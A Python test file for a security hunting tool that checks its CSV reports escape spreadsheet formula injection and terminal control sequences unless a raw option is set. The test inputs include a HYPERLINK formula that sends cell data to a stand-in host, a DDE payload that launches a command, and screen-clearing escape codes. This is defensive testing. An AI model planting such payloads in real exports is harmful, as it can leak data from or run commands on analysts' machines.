"""CSV that a spreadsheet cannot turn into live formulas, by default, with an opt-out."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from exhunt.cli import main
from exhunt.model import EvidenceRef, Finding, HostAssessment, HuntResult, Implies, Severity, Verdict
from exhunt.report.csvsafe import spreadsheet_safe
from exhunt.report.timeline import TimelineStream, write_timeline
from exhunt.scan.output import write_csv
from exhunt.scan.result import HostResult

FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_formula_leading_cells_are_quoted_and_others_kept() -> None:
    for text in FORMULAS:
        assert spreadsheet_safe(text) == "'" + text
    for text in ("Mozilla/5.0", "198.51.100.7", "", "a=b", "'already"):
        assert spreadsheet_safe(text) == text


def _result(agent: str) -> HuntResult:
    when = datetime(2021, 3, 3, tzinfo=UTC)
    f = Finding(
        "EXH-TEST",
        1,
        "t",
        Severity.HIGH,
        "exploitation",
        Implies.ATTEMPT,
        (),
        None,
        EvidenceRef("u_ex.log", 3, agent),
        when,
        "198.51.100.7",
        details=(("user_agent", agent),),
    )
    return HuntResult("t", when, when, [HostAssessment("EX01", Verdict.ATTEMPTED, "x", findings=[f])])


@pytest.mark.parametrize("agent", FORMULAS)
def test_timeline_csv_is_safe_by_default_and_raw_on_request(tmp_path: Path, agent: str) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    write_timeline(_result(agent), safe)
    write_timeline(_result(agent), raw, safe=False)
    (row,) = csv.DictReader(safe.open(encoding="utf-8", newline=""))
    assert row["detail_user_agent"] == "'" + agent and row["excerpt"] == "'" + agent
    (row,) = csv.DictReader(raw.open(encoding="utf-8", newline=""))
    assert row["detail_user_agent"] == agent


def test_hunt_csv_flag_and_opt_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    saved = tmp_path / "r.json"
    saved.write_text(__import__("json").dumps(_result("=cmd|'/c calc'!A0").to_dict()))
    assert main(["report", str(saved), "--csv", "-"]) == 1
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["detail_user_agent"].startswith("'=")
    assert main(["report", str(saved), "--csv", "-", "--csv-raw"]) == 1
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["detail_user_agent"].startswith("=")


def test_scan_csv_is_safe_by_default_and_raw_on_request() -> None:
    r = HostResult("=evil()", "k", "h", 443)
    r.errors.append("@cmd")
    for safe, first in ((True, "'=evil()"), (False, "=evil()")):
        buf = io.StringIO()
        write_csv([r], buf, safe=safe)
        (row,) = csv.DictReader(io.StringIO(buf.getvalue()))
        assert row["target"] == first


ESCAPES = "\x1b[2J\x1b]0;title\x07\x1b[31mred\u202e\x9b"


def test_control_characters_are_inert_in_the_findings_csv_by_default_and_exact_on_request(tmp_path: Path) -> None:
    """A file name or user agent carrying escape sequences cannot clear the screen of whoever
    `cat`s the CSV; `--csv-raw` keeps the exact bytes (as --json always does)."""
    result = _result("agent" + ESCAPES)
    f = result.hosts[0].findings[0]
    result.hosts[0].findings = [
        Finding(
            **{
                **{k: getattr(f, k) for k in f.__dataclass_fields__},
                "evidence": EvidenceRef("sh\n" + ESCAPES + ".aspx", 3, "x\ty\r\nz"),
            }
        )
    ]
    for name, kind in (("timeline.csv", {}), ("findings.csv", {"fmt": "csv", "undated": True})):
        safe, raw = tmp_path / f"safe-{name}", tmp_path / f"raw-{name}"
        for target, is_safe in ((safe, True), (raw, False)):
            stream = TimelineStream(target, safe=is_safe, **kind)  # type: ignore[arg-type]
            stream.add(result.hosts[0])
            stream.close()
        text = safe.read_text(encoding="utf-8")
        for live in ("\x1b", "\x07", "\u202e", "\x9b"):
            assert live not in text, (name, live)
        (row,) = csv.DictReader(safe.open(encoding="utf-8", newline=""))
        assert row["detail_user_agent"] == "agent\\x1b[2J\\x1b]0;title\\x07\\x1b[31mred\\x202e\\x9b"
        assert row["excerpt"] == "x\ty\r\nz"  # tab, carriage return and line feed kept, quoted
        assert row[next(k for k in row if row[k].startswith("sh"))].startswith("sh\n\\x1b[2J")
        (row,) = csv.DictReader(raw.open(encoding="utf-8", newline=""))
        assert row["detail_user_agent"] == "agent" + ESCAPES
